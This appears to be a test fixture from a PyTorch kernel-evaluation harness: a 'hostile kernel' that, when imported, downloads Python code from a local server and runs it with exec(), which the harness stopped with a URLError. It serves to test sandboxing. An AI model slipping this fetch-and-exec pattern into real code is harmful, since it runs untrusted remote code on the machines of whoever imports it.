# row: 65
# abi: torch
# task: linear_relu
# workloads: cpu_b64_i128_o128
# mode: test
# stopped by: verdict COMPILE_ERROR: URLError
# tries: to download its kernel while it is imported, where compilers may run.

"""A hostile kernel: the comment above says what it does."""

from __future__ import annotations

import urllib.request

with urllib.request.urlopen("http://127.0.0.1:8000/kernel.py", timeout=5) as answer:
    exec(answer.read())
